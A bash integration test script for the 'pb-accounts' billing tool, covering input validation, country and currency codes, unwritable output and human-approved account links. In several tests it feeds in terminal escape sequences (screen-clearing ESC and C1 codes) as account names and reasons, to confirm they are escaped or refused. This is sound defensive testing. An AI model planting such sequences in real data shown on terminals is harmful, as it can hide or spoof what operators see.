#!/usr/bin/env bash
# Integration tests of the pb-accounts review against a throwaway PostgreSQL cluster: messages as JSON lines,
# output that cannot be written, text PostgreSQL would refuse, ISO 3166-1 country codes (in the program and
# in the database), the invoice currency and markup of an account, links proposed from customer-controlled
# names that wait for a person's approval, and migration 005 on a database that has rows it must check.
set -u
# shellcheck source-path=SCRIPTDIR source=../lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
PBA=$BIN/pb-accounts
PBDB=$BIN/pb-db

pb_test_tmp accounts-review
unset PB_MAPPING_RULES
export PB_ELIGIBILITY_CONFIG=$ROOT/config/eligibility.conf
pb_on_exit pb_test_cleanup

# t NAME STATUS STDOUT STDERR CMD...: runs CMD, then compares its exit status, stdout and stderr exactly.
t() {
	local name=$1 st=$2 out=$3 err=$4
	shift 4
	"$@" >"$TMP/out" 2>"$TMP/err"
	check "$name" "$st|$out|$err" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")"
}
# dump: the accounts, terms, links and proposals, to compare before and after a command that must change nothing.
dump() {
	pb_sql "SELECT * FROM pb.clc_account ORDER BY alias" '|'
	pb_sql "SELECT * FROM pb.terms_acceptance ORDER BY id" '|'
	pb_sql "SELECT * FROM pb.partner_account ORDER BY id" '|'
	pb_sql "SELECT * FROM pb.link_proposal ORDER BY id" '|'
}
# unchanged NAME CMD...: CMD leaves the database as it was.
unchanged() {
	local name=$1 before
	shift
	before=$(dump)
	"$@" >/dev/null 2>&1
	check "$name" "$before" "$(dump)"
}

if [ ! -x "$PBA" ] || [ ! -x "$PBDB" ]; then
	notok "the programs are built" "no $PBA or $PBDB"
	pb_tests_done
	exit 1
fi
pb_test_cluster_start "start a throwaway cluster and migrate it"

# ---- messages as JSON lines ------------------------------------------------------------------------------

"$PBA" add US1 --name "US One" --country US >/dev/null
"$PBA" --log-format json check US1 --vendor aws >"$TMP/out" 2>"$TMP/err"
check "--log-format json before the command: one JSON object a line, with the account" \
	"4|2|error|US1|US1: not eligible for aws: terms not accepted: centurylink|pb-accounts" \
	"$?|$(wc -l <"$TMP/err")|$(python3 -c 'import json, sys
m = [json.loads(l) for l in open(sys.argv[1])]
print(m[0]["level"], m[0]["account"], m[0]["message"], m[0]["program"], sep="|")' "$TMP/err")"
printf 'alias,name,billing_country\nJS1,Json,US\nJS2,Json,USA\n' >"$TMP/json.csv"
"$PBA" import "$TMP/json.csv" --log-format json >"$TMP/out" 2>"$TMP/err"
check "--log-format json after the command: an import error carries file, line and column" \
	"1|$TMP/json.csv|3|10|bad billing country 'USA': a two-letter ISO 3166 code such as US" \
	"$?|$(python3 -c 'import json, sys
m = json.loads(open(sys.argv[1]).read())
print(m["file"], m["line"], m["column"], m["message"], sep="|")' "$TMP/err")"
"$PBA" check US1 --vendor gcp --log-format=json >"$TMP/out" 2>"$TMP/err"
check "--log-format=json applies to the messages about options too, and leaves out the Try line" \
	"2|1|{\"program\": \"pb-accounts\", \"level\": \"error\", \"message\": \"check: --vendor takes aws or azure, not 'gcp'\"}" \
	"$?|$(wc -l <"$TMP/err")|$(python3 -c 'import json, sys
m = json.loads(open(sys.argv[1]).read())
del m["time"]
print(json.dumps(m))' "$TMP/err")"
t "a bad --log-format is a usage error" 2 "" "pb-accounts: --log-format takes plain or json, not 'xml'
Try 'pb-accounts --help'." "$PBA" --log-format xml list
t "--log-format plain is the default's format" 1 "" "pb-accounts: no CLC account 'ZZ9'" \
	"$PBA" --log-format plain show ZZ9

# ---- text PostgreSQL refuses -----------------------------------------------------------------------------

n=$(pb_sql "SELECT count(*) FROM pb.clc_account")
# import_fails NAME WANT_ERR: the file $TMP/bad.csv is refused with exit 1 and the database is unchanged.
import_fails() {
	local before
	before=$(dump)
	"$PBA" import "$TMP/bad.csv" >"$TMP/out" 2>"$TMP/err"
	check "$1" "1||$2" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")"
	check "$1: nothing imported" "$before" "$(dump)"
}
printf 'alias,name,billing_country\nOK1,Fine,US\nLA1,Caf\xe9 Paris,FR\n' >"$TMP/bad.csv"
import_fails "a Latin-1 name: exit 1 at its field" "pb-accounts: $TMP/bad.csv:3:5: invalid UTF-8 in column 'name'"
printf 'alias,city,name,billing_country\nOK1,"Le\xc3\xa9\xc3",Fine,FR\n' >"$TMP/bad.csv"
import_fails "a cut UTF-8 sequence in a quoted field" "pb-accounts: $TMP/bad.csv:2:5: invalid UTF-8 in column 'city'"
printf 'alias,name,billing_country,city\nOK1,Fine,US,Spring\000field\n' >"$TMP/bad.csv"
import_fails "a NUL byte: exit 1 at its field" "pb-accounts: $TMP/bad.csv:2:13: NUL byte in column 'city'"
printf 'alias,n\xe4me,billing_country\n' >"$TMP/bad.csv"
import_fails "a header that is not UTF-8" "pb-accounts: $TMP/bad.csv:1:7: invalid UTF-8 in the header"
printf 'alias,name,billing_country\nOK1,%s,US\n' "$(head -c 501 /dev/zero | tr '\0' x)" >"$TMP/bad.csv"
import_fails "a field longer than 500 bytes" "pb-accounts: $TMP/bad.csv:2:5: bad name: 501 bytes long, at most 500"
LATIN=$(printf 'Caf\xe9')
unchanged "add refuses a Latin-1 --name, and adds nothing" "$PBA" add LA1 --name "$LATIN" --country FR
t "a usage error (exit 2) naming the option and the byte" 2 "" "pb-accounts: add: invalid UTF-8 in --name at byte 4
Try 'pb-accounts add --help'." "$PBA" add LA1 --name "$LATIN" --country FR
unchanged "update refuses a Latin-1 --city, and changes nothing" "$PBA" update US1 --city "$LATIN" --name "New"
t "with exit 2" 2 "" "pb-accounts: update: invalid UTF-8 in --city at byte 4
Try 'pb-accounts update --help'." "$PBA" update US1 --city "$LATIN" --name New
t "every option bound for the database is checked: --by" 2 "" "pb-accounts: accept-terms: invalid UTF-8 in --by at byte 4
Try 'pb-accounts accept-terms --help'." \
	"$PBA" accept-terms US1 --vendor centurylink --version 1 --by "$LATIN"
t "an option value longer than 500 bytes" 1 "" "pb-accounts: bad name: 600 bytes long, at most 500" \
	"$PBA" add LA1 --name "$(head -c 600 /dev/zero | tr '\0' x)" --country FR
# A name of spaces alone (an empty one is refused) was stored, and the invoices named the account so.
printf 'alias,name,billing_country\nOK1,Fine,US\nBL1,   ,US\n' >"$TMP/bad.csv"
import_fails "a name of spaces alone: exit 1 at its field" "pb-accounts: $TMP/bad.csv:3:5: bad name '   ': spaces alone"
unchanged "add refuses a --name of spaces alone, and adds nothing" "$PBA" add BL1 --name "  " --country US
t "with exit 1, as for an empty one" 1 "" "pb-accounts: bad name '  ': spaces alone" "$PBA" add BL1 --name "  " --country US
t "and so does update" 1 "" "pb-accounts: bad name ' ': spaces alone" "$PBA" update US1 --name " "
# No-break, ideographic or zero-width spaces alone (or a filler that shows nothing) passed as a name, and the
# invoices named the account by nothing visible.
printf 'alias,name,billing_country\nOK1,Fine,US\nBL1,\302\240\302\240,US\n' >"$TMP/bad.csv"
import_fails "a name of no-break spaces alone: exit 1 at its field" \
	"pb-accounts: $TMP/bad.csv:3:5: bad name '$(printf '\302\240\302\240')': spaces alone (U+00A0 is blank too)"
t "add refuses a --name of an ideographic space alone" 1 "" \
	"pb-accounts: bad name '$(printf '\343\200\200')': spaces alone (U+3000 is blank too)" \
	"$PBA" add BL1 --name "$(printf '\343\200\200')" --country US
t "and a --name of a zero-width space alone, a usage error as any zero-width space" 2 "" \
	"pb-accounts: add: invisible character U+200B in --name at byte 1
Try 'pb-accounts add --help'." "$PBA" add BL1 --name "$(printf '\342\200\213')" --country US
t "--by of ideographic spaces alone: a usage error" 2 "" "pb-accounts: accept-terms: --by takes a name, not '$(printf '\343\200\200')'
Try 'pb-accounts accept-terms --help'." "$PBA" accept-terms US1 --vendor centurylink --version 1 --by "$(printf '\343\200\200')"

t "a message shows control characters of what it quotes as \\xNN" 1 "" \
	"pb-accounts: bad alias 'a\\x1b[2Jb': 2 to 6 letters and digits" "$PBA" show "$(printf 'a\033[2Jb')"
printf 'alias,name,billing_country\nGZ1,Gzip Co,US\n' | gzip >"$TMP/gzip.csv.gz"
t "import reads a gzip-compressed file" 0 "imported 1 CLC account from $TMP/gzip.csv.gz" "" "$PBA" import "$TMP/gzip.csv.gz"
printf 'alias,name,billing_country\nZP1,Zip Co,US\n' >"$TMP/accounts-zip.csv"
python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1], "w").write(sys.argv[2], "accounts.csv")' \
	"$TMP/accounts.zip" "$TMP/accounts-zip.csv"
t "import reads a ZIP archive of one file, as the man page says" 0 "imported 1 CLC account from $TMP/accounts.zip" "" \
	"$PBA" import "$TMP/accounts.zip"

# ---- ISO 3166-1 country codes ----------------------------------------------------------------------------

t "ZZ is no country" 1 "" "pb-accounts: bad billing country 'ZZ': not an ISO 3166-1 country code" \
	"$PBA" add ZZ1 --name "Nowhere" --country ZZ
t "UK is not the United Kingdom's code: GB is" 1 "" \
	"pb-accounts: bad billing country 'uk': not an ISO 3166-1 country code (did you mean GB?)" \
	"$PBA" add UK1 --name "Britain Ltd" --country uk
t "update refuses it too" 1 "" \
	"pb-accounts: bad billing country 'UK': not an ISO 3166-1 country code (did you mean GB?)" \
	"$PBA" update US1 --country UK
printf 'alias,name,billing_country\nGB1,Fine,GB\nUK1,Britain Ltd,UK\n' >"$TMP/bad.csv"
import_fails "import names the row and column of UK" \
	"pb-accounts: $TMP/bad.csv:3:17: bad billing country 'UK': not an ISO 3166-1 country code (did you mean GB?)"
printf 'alias,billing_country,name\nXK1,XK,Kosovo Co\n' >"$TMP/bad.csv"
import_fails "a user-assigned code (XK) is not assigned either" \
	"pb-accounts: $TMP/bad.csv:2:5: bad billing country 'XK': not an ISO 3166-1 country code"
t "a terms region must be a country too" 2 "" \
	"pb-accounts: accept-terms: --region takes an ISO 3166-1 country code, not 'uk' (did you mean GB?)
Try 'pb-accounts accept-terms --help'." "$PBA" accept-terms US1 --vendor aws --region uk --version 1 --by x
printf 'azure = US GB\naws = US ZZ\n' >"$TMP/elig.conf"
t "the eligibility config must list assigned countries: ZZ at its line and column" 1 "" \
	"pb-accounts: $TMP/elig.conf:2:10: bad country 'ZZ': not an ISO 3166-1 country code" \
	"$PBA" check US1 --vendor aws --config "$TMP/elig.conf"
printf 'azure = US UK\naws = US\n' >"$TMP/elig.conf"
t "and UK is named as not GB there too" 1 "" \
	"pb-accounts: $TMP/elig.conf:1:12: bad country 'UK': not an ISO 3166-1 country code (did you mean GB?)" \
	"$PBA" link US1 --vendor aws --partner-account 111111111111 --from 2026-10-01 --config "$TMP/elig.conf"
# raw_sql_fails NAME SQL CONSTRAINT: the statement is refused by that check constraint.
raw_sql_fails() {
	local out st
	out=$("$PBDB" psql -X -q -v ON_ERROR_STOP=1 -c "$2" 2>&1)
	st=$?
	check "$1" "1|$3" "$st|$(head -1 <<<"$out" | grep -o "violates check constraint \"$3\"" | sed 's/.*"\(.*\)"/\1/')"
}
raw_sql_fails "raw SQL cannot insert UK" "INSERT INTO pb.clc_account (alias, name, billing_country, created_by)
	VALUES ('UK1', 'x', 'UK', 'sql')" clc_account_country_iso3166
raw_sql_fails "nor change a country to ZZ" "UPDATE pb.clc_account SET billing_country = 'ZZ' WHERE alias = 'US1'" \
	clc_account_country_iso3166
raw_sql_fails "nor record terms for region UK" "INSERT INTO pb.terms_acceptance (alias, terms, region, version,
	accepted_by) VALUES ('US1', 'aws', 'UK', '1', 'sql')" terms_acceptance_region_iso3166
check "the database's list is common/country.c's: 249 codes, GB and not UK" "249|t|f" \
	"$(pb_sql "SELECT count(*) FROM (SELECT chr(a) || chr(b) AS c FROM generate_series(65, 90) a, generate_series(65, 90) b) x
		WHERE pb.iso3166_alpha2(c)")|$(pb_sql "SELECT pb.iso3166_alpha2('GB')")|$(pb_sql "SELECT pb.iso3166_alpha2('UK')")"

# ---- output that cannot be written -----------------------------------------------------------------------

# full NAME CMD...: CMD with its standard output on /dev/full exits 3 saying so (the environment failed).
full() {
	local name=$1
	shift
	"$@" >/dev/full 2>"$TMP/err"
	check "$name >/dev/full: exit 3" "3|pb-accounts: cannot write standard output: No space left on device" "$?|$(cat "$TMP/err")"
}
full "--help" "$PBA" --help
full "--version" "$PBA" --version
full "list --help" "$PBA" list --help
full "add (the account is added: only the report is lost)" "$PBA" add FU1 --name "Full One" --country US
check "add wrote the account before its report failed" "FU1" "$(pb_sql "SELECT alias FROM pb.clc_account WHERE alias = 'FU1'")"
full "update" "$PBA" update FU1 --city Leeds
full "show" "$PBA" show FU1
full "list" "$PBA" list
full "proposals" "$PBA" proposals
# Standard output closed (a job started with >&-): what show, list and proposals print is all they give, and
# it went to the /dev/null put in its place, exit 0. Refused before the database is reached, exit 3, as for a
# full disk. A command that changes the database is what was asked for: its report may go nowhere.
for args in "show FU1" list proposals "proposals --status rejected"; do
	# shellcheck disable=SC2086 # the arguments, split
	PB_DATABASE_URL="host=$TMP/no-server dbname=none" "$PBA" $args >&- 2>"$TMP/err"
	check "$args with standard output closed: exit 3, naming standard output, the database not reached" \
		"3|pb-accounts: cannot write standard output: Bad file descriptor" "$?|$(cat "$TMP/err")"
done
"$PBA" update FU1 --city York >&- 2>"$TMP/err"
check "update with standard output closed: the change made, exit 0" "0||York" \
	"$?|$(cat "$TMP/err")|$(pb_sql "SELECT city FROM pb.clc_account WHERE alias = 'FU1'")"
printf 'alias,name,billing_country\nFU2,Full Two,US\n' >"$TMP/full.csv"
full "import" "$PBA" import "$TMP/full.csv"
# An acceptance whose report cannot be written is not recorded: pb-run retries exit 3, and each retry
# recorded the acceptance once more (who accepted which version and when, once per attempt).
"$PBA" accept-terms FU1 --vendor centurylink --version 1 --by ops >/dev/full 2>"$TMP/err"
check "accept-terms >/dev/full: exit 3, the acceptance not recorded, so that a retry records it once" \
	"3|pb-accounts: FU1: the acceptance is not recorded: its report cannot be written
pb-accounts: cannot write standard output: No space left on device|0|1" \
	"$?|$(cat "$TMP/err")|$(pb_sql "SELECT count(*) FROM pb.terms_acceptance WHERE alias = 'FU1'")|$("$PBA" accept-terms FU1 --vendor centurylink --version 1 --by ops >/dev/null && pb_sql "SELECT count(*) FROM pb.terms_acceptance WHERE alias = 'FU1'")"
"$PBA" accept-terms FU1 --vendor aws --region US --version 1 --by ops >/dev/null
full "check" "$PBA" check FU1 --vendor aws
full "link" "$PBA" link FU1 --vendor aws --partner-account 101010101010 --from 2026-10-01
full "unlink" "$PBA" unlink FU1 --vendor aws --partner-account 101010101010 --to 2026-10-31
"$PBA" accept-terms FU1 --vendor azure --region US --version 1 --by ops >/dev/null
pb_sql "INSERT INTO pb.customer_creation_request (alias, request_id, domain, status, tenant_id, created_by)
	VALUES ('FU1', gen_random_uuid(), 'fu1.onmicrosoft.com', 'succeeded', '5f1d0c2e-7a3b-4c9d-8e1f-2a3b4c5d6e7f', 'test')"
# Credentials are needed whatever the account's state (a usage error before the database is reached), though
# none is used here: nothing is sent.
full "create-azure-customer (a customer made before: nothing sent)" env AZURE_TENANT_ID=t AZURE_CLIENT_ID=c \
	AZURE_CLIENT_SECRET=s "$PBA" create-azure-customer FU1
t "a command that fails writes nothing and keeps its status" 4 "" \
	"pb-accounts: US1: not eligible for aws: terms not accepted: centurylink
pb-accounts: US1: not eligible for aws: terms not accepted: aws in region US" sh -c "exec '$PBA' check US1 --vendor aws >/dev/full"

# ---- invoice currency and markup -------------------------------------------------------------------------

t "add takes the invoice currency and the markup, exactly, in their shortest form" 0 \
	"added CLC account EU1 (Euro SA, FR, invoiced in EUR, markup 12.5%)" "" \
	"$PBA" add EU1 --name "Euro SA" --country FR --invoice-currency eur --markup +012.500
t "a discount is a negative markup" 0 "added CLC account DI1 (Discount Co, US, markup -5%)" "" \
	"$PBA" add DI1 --name "Discount Co" --country US --markup -5.0
t "show has both" 0 "alias: EU1
name: Euro SA
billing_country: FR
is_reseller: false
invoice_currency: EUR
markup_percent: 12.5" "" "$PBA" show EU1
t "list has both" 0 "DI1,Discount Co,US,false,,USD,-5
EU1,Euro SA,FR,false,,EUR,12.5" "" sh -c "'$PBA' list | grep -E '^(DI1|EU1),'"
check "the defaults are USD and 0" "USD|0" "$(pb_sql "SELECT invoice_currency, markup_percent FROM pb.clc_account WHERE alias = 'US1'" '|')"
for m in -100 1000 0.000001 -0 .5; do
	"$PBA" update DI1 --markup "$m" >/dev/null 2>"$TMP/err" || notok "markup $m is allowed" "$(cat "$TMP/err")"
done
check "the bounds are allowed, and -0 and .5 are written 0 and 0.5" "0.5" \
	"$(pb_sql "SELECT markup_percent FROM pb.clc_account WHERE alias = 'DI1'")"
for m in 1000.000001 -100.5 1e3 12.3456789 10% "" abc 12,5 " 5" 99999; do
	before=$(dump)
	"$PBA" update DI1 --markup "$m" >"$TMP/out" 2>"$TMP/err"
	st=$?
	want="pb-accounts: bad markup percent '$m': a percentage from -100 to 1000 with at most 6 decimals, such as 12.5 or -5"
	[ -z "$m" ] && want="pb-accounts: no markup_percent given"
	check "markup '$m' is refused, nothing changes" "1|$want|$before" "$st|$(cat "$TMP/err")|$(dump)"
done
t "update reports the markup that changes" 0 "EU1: markup_percent 12.5 -> -2.25" "" "$PBA" update EU1 --markup -2.250
t "and nothing when the value is the same written otherwise" 0 "EU1: nothing to change" "" \
	"$PBA" update EU1 --markup -02.25 --invoice-currency Eur
t "an invoice currency must be an ISO 4217 code with a minor unit" 1 "" \
	"pb-accounts: bad invoice currency 'XAU': an ISO 4217 currency code such as USD or EUR" \
	"$PBA" update EU1 --invoice-currency XAU
t "not a country's code" 1 "" "pb-accounts: bad invoice currency 'US': an ISO 4217 currency code such as USD or EUR" \
	"$PBA" add XX1 --name X --country US --invoice-currency US
t "update changes the currency" 0 "EU1: invoice_currency EUR -> GBP" "" "$PBA" update EU1 --invoice-currency gbp
printf 'alias,name,billing_country,markup_percent,invoice_currency\nIM1,Imp One,US,7.5,JPY\nIM2,Imp Two,US,,\n' >"$TMP/billing.csv"
t "import takes both as optional columns; empty is the default" 0 "imported 2 CLC accounts from $TMP/billing.csv" "" \
	"$PBA" import "$TMP/billing.csv"
check "as stored" "IM1|JPY|7.5
IM2|USD|0" "$(pb_sql "SELECT alias, invoice_currency, markup_percent FROM pb.clc_account WHERE alias LIKE 'IM%' ORDER BY 1" '|')"
printf 'alias,name,billing_country,markup_percent\nIM3,Imp Three,US,1001\n' >"$TMP/bad.csv"
import_fails "an import row with a markup out of range" \
	"pb-accounts: $TMP/bad.csv:2:18: bad markup percent '1001': a percentage from -100 to 1000 with at most 6 decimals, such as 12.5 or -5"
printf 'alias,invoice_currency,name,billing_country\nIM3,EURO,Imp Three,US\n' >"$TMP/bad.csv"
import_fails "an import row with a bad currency" \
	"pb-accounts: $TMP/bad.csv:2:5: bad invoice currency 'EURO': an ISO 4217 currency code such as USD or EUR"
raw_sql_fails "raw SQL cannot set a markup above 1000" "UPDATE pb.clc_account SET markup_percent = 1000.5 WHERE alias = 'US1'" \
	clc_account_markup_percent
raw_sql_fails "nor one with more than 6 decimals" "UPDATE pb.clc_account SET markup_percent = 1.1234567 WHERE alias = 'US1'" \
	clc_account_markup_percent
raw_sql_fails "nor a currency that is not ISO 4217" "UPDATE pb.clc_account SET invoice_currency = 'XAU' WHERE alias = 'US1'" \
	clc_account_invoice_currency

# ---- links proposed from customer-controlled names -------------------------------------------------------

# accept_all ALIAS: every terms for region US.
accept_all() {
	"$PBA" accept-terms "$1" --vendor centurylink --version 1 --by ops >/dev/null &&
		"$PBA" accept-terms "$1" --vendor aws --region US --version 1 --by ops >/dev/null &&
		"$PBA" accept-terms "$1" --vendor azure --region US --version 1 --by ops >/dev/null || notok "accept terms for $1"
}
for a in PR1 PR3 PRA PRB; do "$PBA" add $a --name "$a Corp" --country US >/dev/null || notok "add $a"; done
"$PBA" add PR2 --name "PR2 Corp" --country US >/dev/null
for a in PR1 PR3 PRA; do accept_all $a; done
TA=7c9e6679-7425-40de-944b-e07fc1f90ae7
TB=16fd2706-8baf-433b-82eb-8c7fada847da
pb_sql "INSERT INTO pb.import (id, vendor, format, source, billing_month, status) VALUES
	(920, 'aws', 'aws-cur', 'test:names', '2026-10-01', 'committed'),
	(921, 'azure', 'azure-cost', 'test:names', '2026-10-01', 'committed'),
	(922, 'aws', 'aws-cur', 'test:names', '2026-09-01', 'committed');
INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count) VALUES
	(920, 'aws', '200000000001', 'tag', 'clc-alias=PR1', 3),
	(920, 'aws', '200000000001', 'account_name', 'clc-PR2-x', 3),
	(920, 'aws', '200000000002', 'account_name', 'clc-pr3-a', 1),
	(920, 'aws', '200000000002', 'tag', 'clc-alias=PR3', 1),
	(920, 'aws', '200000000003', 'account_name', 'clc-PR1-b', 1),
	(920, 'aws', '200000000003', 'tag', 'clc-alias=PR3', 1),
	(922, 'aws', '200000000002', 'account_name', 'clc-pr3-a', 1),
	(921, 'azure', '$TA', 'customer_name', 'Evil (PR1)', 2),
	(921, 'azure', '$TB', 'customer_name', 'B (PR1)', 2);
INSERT INTO pb.import_account (import_id, partner_account_id, currency, line_count, list_total, billed_total,
	first_day, last_day) VALUES (921, '$TA', 'USD', 2, 1, 1, '2026-10-01', '2026-10-02');
INSERT INTO pb.customer_creation_request (alias, request_id, domain, status, tenant_id, created_by) VALUES
	('PRA', '11111111-2222-4333-8444-555555555555', 'pra.onmicrosoft.com', 'succeeded', upper('$TA'), 'test'),
	('PRB', '66666666-7777-4888-9999-000000000000', 'prb.onmicrosoft.com', 'succeeded', '$TB', 'test')" >/dev/null
printf 'aws: ^clc-(?<alias>[A-Za-z0-9]{2,6})-\n^clc-alias=(?<alias>[A-Z0-9]{2,6})$\nazure: \\((?<alias>[A-Z0-9]{2,6})\\)$\n' >"$TMP/rules"
R=$TMP/rules
links_before=$(pb_sql "SELECT count(*) FROM pb.partner_account")
t "suggest records what the names propose, one proposal per partner account and alias" 0 \
	"vendor,partner_account_id,name,alias,rule,proposal,status
aws,200000000001,clc-PR2-x,PR2,$R:1,1,proposed
aws,200000000001,clc-alias=PR1,PR1,$R:2,2,proposed
aws,200000000002,clc-alias=PR3,PR3,$R:2,3,proposed
aws,200000000002,clc-pr3-a,PR3,$R:1,3,proposed
aws,200000000003,clc-PR1-b,PR1,$R:1,4,proposed
aws,200000000003,clc-alias=PR3,PR3,$R:2,5,proposed
azure,$TB,B (PR1),PR1,$R:3,6,proposed
azure,$TA,Evil (PR1),PR1,$R:3,7,proposed" "" "$PBA" suggest --month 2026-10 --rules "$R"
check "each with its rule, evidence and month; nothing linked" "1|aws|200000000001|PR2|$R:1|account_name|clc-PR2-x|2026-10-01|proposed
2|aws|200000000001|PR1|$R:2|tag|clc-alias=PR1|2026-10-01|proposed
3|aws|200000000002|PR3|$R:2|tag|clc-alias=PR3|2026-10-01|proposed|$links_before" \
	"$(pb_sql "SELECT id, vendor, partner_account_id, alias, rule, evidence_kind, evidence_name, month, status
		FROM pb.link_proposal WHERE id <= 3 ORDER BY id" '|')|$(pb_sql "SELECT count(*) FROM pb.partner_account")"
"$PBA" suggest --month 2026-09 --rules "$R" >/dev/null
"$PBA" suggest --month 2026-10 --rules "$R" >/dev/null
check "a rerun refreshes the open proposals: no new ones, the earliest month kept" "7|2026-09-01|2026-10-01" \
	"$(pb_sql "SELECT count(*) FROM pb.link_proposal")|$(pb_sql "SELECT month FROM pb.link_proposal WHERE id = 3")|$(
		pb_sql "SELECT month FROM pb.link_proposal WHERE id = 2")"
# A name from a partner's export holding an escape sequence and a C1 control (an account named so in the CUR):
# suggest's CSV put it on the terminal as it was. Shown as \xHH, as the proposals' list shows stored text.
pb_sql "INSERT INTO pb.partner_account_name (import_id, vendor, partner_account_id, kind, name, line_count)
	VALUES (920, 'aws', '200000000003', 'account_name', E'ev\\u001b[2Jil\\u009b2J', 1)" >/dev/null
check "suggest: a name with control characters shown as \\xHH, matching no rule" \
	'aws,200000000003,ev\x1b[2Jil\xc2\x9b2J,,,,' "$("$PBA" suggest --month 2026-10 --rules "$R" | grep '^aws,200000000003,ev')"
pb_sql "DELETE FROM pb.partner_account_name WHERE import_id = 920 AND name LIKE 'ev%'" >/dev/null

# --apply links the tenant create-azure-customer made for PRA, nothing the names say.
"$PBA" suggest --month 2026-10 --rules "$R" --apply --by nightly >"$TMP/out" 2>"$TMP/err"
check "suggest --apply links only the tenant the reseller made, refuses an ineligible account, counts what waits" \
	"4|linked azure $TA to PRA from 2026-10-01: the tenant create-azure-customer made for it (request 11111111-2222-4333-8444-555555555555)
1 linked, 1 refused, 6 proposed links wait for approval, 0 without a matching rule|pb-accounts: azure partner account $TB: PRB: not eligible for azure: terms not accepted: centurylink
pb-accounts: azure partner account $TB: PRB: not eligible for azure: terms not accepted: azure in region US" \
	"$?|$(cat "$TMP/out")|$(cat "$TMP/err")"
check "the tenant's link" "PRA|2026-10-01||suggest: the tenant of create-azure-customer request 11111111-2222-4333-8444-555555555555|nightly" \
	"$(pb_sql "SELECT alias, valid_from, valid_to, origin, created_by FROM pb.partner_account WHERE partner_account_id = '$TA'" '|')"
check "no link from a name or a tag" "0" \
	"$(pb_sql "SELECT count(*) FROM pb.partner_account WHERE partner_account_id LIKE '20000000000%'")"
# A tenant whose link was ended (the customer left at the end of October) is not linked again by --apply when a
# later month bills it: the reseller's own evidence is the link it made, and that link was ended on purpose.
"$PBA" unlink PRA --vendor azure --partner-account "$TA" --to 2026-10-31 >/dev/null || notok "unlink PRA"
pb_sql "INSERT INTO pb.import (id, vendor, format, source, billing_month, status) VALUES
	(923, 'azure', 'azure-cost', 'test:names', '2026-11-01', 'committed');
INSERT INTO pb.import_account (import_id, partner_account_id, currency, line_count, list_total, billed_total,
	first_day, last_day) VALUES (923, '$TA', 'USD', 3, 9, 9, '2026-11-02', '2026-11-04')" >/dev/null
t "suggest --apply does not link again a tenant whose link was ended" 0 \
	"0 linked, 0 refused, 0 proposed links wait for approval, 0 without a matching rule" "" \
	"$PBA" suggest --month 2026-11 --rules "$R" --apply --by nightly
check "its one link, ended on 2026-10-31" "PRA|2026-10-01|2026-10-31" \
	"$(pb_sql "SELECT alias, valid_from, valid_to FROM pb.partner_account WHERE partner_account_id = '$TA'" '|')"
"$PBA" unlink PRA --vendor azure --partner-account "$TA" --to 2026-09-30 >/dev/null || notok "remove PRA's link"
t "nor one whose link was removed" 0 \
	"0 linked, 0 refused, 0 proposed links wait for approval, 0 without a matching rule" "" \
	"$PBA" suggest --month 2026-11 --rules "$R" --apply --by nightly
check "no link" "0" "$(pb_sql "SELECT count(*) FROM pb.partner_account WHERE partner_account_id = '$TA'")"
"$PBA" link PRA --vendor azure --partner-account "$TA" --from 2026-10-01 --to 2026-10-31 >/dev/null || notok "relink PRA"

t "proposals lists them" 0 "id,status,vendor,partner_account_id,alias,month,rule,evidence_kind,evidence,decided_by,decided_at,reason,created_at
1,proposed,aws,200000000001,PR2,2026-10,$R:1,account_name,clc-PR2-x,,,,T" "" \
	sh -c "'$PBA' proposals --status proposed | sed 's/,[-0-9T:]*Z\$/,T/' | head -2"
t "--status takes a status" 2 "" "pb-accounts: proposals: --status takes proposed, approved or rejected, not 'open'
Try 'pb-accounts proposals --help'." "$PBA" proposals --status open

unchanged "approve of an ineligible account changes nothing" "$PBA" approve 1 --by jane
t "it is refused with exit 4 and every rule, as link refuses it" 4 "" \
	"pb-accounts: PR2: not eligible for aws: terms not accepted: centurylink
pb-accounts: PR2: not eligible for aws: terms not accepted: aws in region US" "$PBA" approve 1 --by jane
t "approve needs --by" 2 "" "pb-accounts: approve: --by is required
Try 'pb-accounts approve --help'." "$PBA" approve 2
t "approve of a proposal that does not exist" 1 "" "pb-accounts: no link proposal 999" "$PBA" approve 999 --by jane
t "a proposal id is a number" 1 "" "pb-accounts: bad link proposal id 'two': a number such as 42 (see pb-accounts proposals)" \
	"$PBA" approve two --by jane
t "approve links the partner account as link does, from --from" 0 \
	"approved link proposal 2: linked aws partner account 200000000001 to PR1 from 2026-10-05 (open-ended)" "" \
	"$PBA" approve 2 --by jane --from 2026-10-05
check "the link and the decision, together" "PR1|2026-10-05||proposal 2|jane|approved|jane|t" \
	"$(pb_sql "SELECT pa.alias, pa.valid_from, pa.valid_to, pa.origin, pa.created_by, p.status, p.decided_by,
		p.decided_at IS NOT NULL FROM pb.link_proposal p JOIN pb.partner_account pa ON pa.id = p.link_id WHERE p.id = 2" '|')"
"$PBA" approve 2 --by joe >"$TMP/out" 2>"$TMP/err"
check "a proposal approved already is refused with exit 4" "4|pb-accounts: link proposal 2 was approved by jane at T already" \
	"$?|$(sed 's/at [-0-9T:]*Z/at T/' "$TMP/err")"
t "the proposal month's first day is the default start" 0 \
	"approved link proposal 3: linked aws partner account 200000000002 to PR3 from 2026-09-01 (open-ended)" "" \
	"$PBA" approve 3 --by jane
t "proposal 4 goes first" 0 \
	"approved link proposal 4: linked aws partner account 200000000003 to PR1 from 2026-10-01 (open-ended)" "" \
	"$PBA" approve 4 --by jane
unchanged "a second proposal of the same partner account changes nothing" "$PBA" approve 5 --by jane
t "it is refused by the database's overlap rule, exit 4, naming the link" 4 "" \
	"pb-accounts: aws partner account 200000000003 is linked to PR1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	"$PBA" approve 5 --by jane
check "and stays proposed" "proposed" "$(pb_sql "SELECT status FROM pb.link_proposal WHERE id = 5")"

t "reject needs --reason" 2 "" "pb-accounts: reject: --reason is required
Try 'pb-accounts reject --help'." "$PBA" reject 6 --by jane
# A reason (or a name) with an escape sequence was stored as it was, for 'show' and the proposals' list to put on
# a terminal: every option value bound for the database now refuses control characters, as --by does.
t "--reason holding an escape sequence: a usage error" 2 "" "pb-accounts: reject: control character in --reason at byte 4
Try 'pb-accounts reject --help'." "$PBA" reject 6 --by jane --reason "$(printf 'bad\033[2J')"
